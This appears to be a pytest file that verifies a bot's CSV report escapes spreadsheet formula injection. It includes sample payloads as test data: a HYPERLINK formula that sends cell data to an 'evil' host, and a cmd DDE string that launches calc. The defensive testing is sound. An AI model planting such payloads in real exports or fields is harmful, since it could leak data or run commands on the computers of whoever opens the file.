"""CSV (formula) injection: no cell of a file the project writes can run as a spreadsheet formula."""

import csv
import io

import pytest

from bank.csv_safety import safe_cell
from proctor.teams.reports import CandidateRow, to_csv
from tests.harness import BotEnv
from tests.papers_fixture import small_paper

ALPHA, LEAD = -100, 10


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil/?"&A1,"Bob")', '\'=HYPERLINK("http://evil/?"&A1,"Bob")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-A1", "'-A1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    # plain numbers stay numbers: a negative score must still sum in the spreadsheet
    ("-3", "-3"), ("+1.5", "+1.5"), ("-0.25", "-0.25"), ("-2e-3", "-2e-3"), ("-.5", "-.5"),
    (-3, -3), (2.5, 2.5), (None, None), (True, True),
    ("Ann", "Ann"), ("", ""), ("安 =1", "安 =1"), ("a=1", "a=1"),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_report_csv_quotes_formula_names_and_headers_and_keeps_numbers():
    rows = [CandidateRow(1, "=1+1", exams=1, best={"-x": -2.0}, daily_points=-1.0, daily_max=2.0, daily_answers=1)]
    text = to_csv(["-x"], rows).decode("utf-8-sig")
    [header, row] = list(csv.reader(io.StringIO(text)))
    assert header[4] == "'-x"
    assert row[1] == "'=1+1" and row[4] == "-2" and row[5] == "-1" and row[8] == "-0.500"


@pytest.fixture
async def env(tmp_path, db_location):
    e = BotEnv(tmp_path, location=db_location)
    await e.seed(small_paper())
    await e.start()
    e.api.group(ALPHA, "Alpha").set_admins([LEAD])
    yield e
    await e.close()


async def test_report_of_candidates_named_like_formulas_holds_only_text(env):
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Bob")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1",
             "\t=1", "Ann"]
    lead = env.api.user(LEAD, "Lea")
    for i, name in enumerate(names):
        user = env.api.user(100 + i, name)
        await user.send("/leaderboard today", chat=ALPHA)  # the bot learns the name and the membership
        await user.wait_message(chat=ALPHA)
        await lead.send(f"/team add {100 + i}", chat=ALPHA)  # /report covers the roster, once they accept
        invitation = await user.wait_message(lambda m: "✅ Join" in m.button_texts)
        await (await user.press(invitation, "✅ Join")).wait()
        await env.idle()
    await lead.send("/report all", chat=ALPHA)
    doc = await env.api.wait_for(lambda: next((m for m in lead.chat() if m.document), None))
    rows = list(csv.DictReader(io.StringIO(doc.document.data.decode("utf-8-sig"))))
    shown = {r["user_id"]: r["name"] for r in rows}
    assert [shown[str(100 + i)] for i in range(len(names))] == ["'" + n for n in names[:-1]] + ["Ann"]
    for r in rows:
        assert not any(str(cell).startswith(("=", "+", "@", "\t", "\r")) for cell in r.values())
        assert r["daily_points"] == "0" and r["streak"].lstrip("-").isdigit()
